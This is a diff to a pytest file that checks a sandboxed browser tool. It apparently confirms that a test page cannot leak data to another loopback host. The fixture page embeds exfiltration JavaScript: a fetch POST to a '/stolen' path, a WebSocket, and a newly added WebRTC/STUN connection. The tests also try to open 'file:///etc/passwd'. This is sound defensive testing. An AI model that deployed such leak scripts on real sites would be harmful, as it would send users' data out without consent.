@@ -3,6 +3,7 @@
 import json
 from collections.abc import AsyncIterator, Mapping, Sequence
 from importlib.util import find_spec
+from socket import AF_INET, SOCK_DGRAM, socket
 
 import anyio
 import pytest
@@ -58,8 +59,13 @@ class Site(Loopback):
             steal = f"fetch('{self._other}/stolen', {{method: 'POST', mode: 'no-cors', body: 'data'}})"
             socket = f"new WebSocket('{self._other.replace('http', 'ws')}/socket')"
             again = "setInterval(() => fetch('/again'), 50)"
+            place = self._other.replace("http://localhost", "stun:127.0.0.1")
+            call = (
+                f"const call = new RTCPeerConnection({{iceServers: [{{urls: '{place}'}}]}});"
+                "call.createDataChannel('x'); call.createOffer().then(offer => call.setLocalDescription(offer))"
+            )
             return self._html(
-                f"<p>leaking</p><img src='{self._other}/i.png'><script>{steal}; {socket}; {again}</script>"
+                f"<p>leaking</p><img src='{self._other}/i.png'><script>{steal}; {socket}; {call}; {again}</script>"
             )
         return self._html(START if asked.path == "/" else f"<p>the end of {asked.path}</p>")
 
@@ -143,7 +149,12 @@ async def test_a_page_leads_no_further_than_its_host_and_reaches_nothing_private
     with pytest.raises(ToolError, match=r"Download is starting|ERR_ABORTED"):
         await bench.call(BrowserOpen(), url=f"{mine.url}/file")
 
-    assert "leaking" in await bench.text(BrowserOpen(), url=f"{mine.url}/leak")
+    with socket(AF_INET, SOCK_DGRAM) as datagrams:  # WebRTC sends these by itself
+        datagrams.bind(other.server_address)
+        datagrams.settimeout(0)
+        assert "leaking" in await bench.text(BrowserOpen(), url=f"{mine.url}/leak")
+        with pytest.raises(BlockingIOError):
+            datagrams.recv(100)
     assert other.asked == []
     assert "not allowed" in await bench.text(BrowserOpen(), url=f"{mine.url}/forbidden")
     for url in ("file:///etc/passwd", "http://[bad/", "http://a@127.0.0.1/", "chrome://version"):
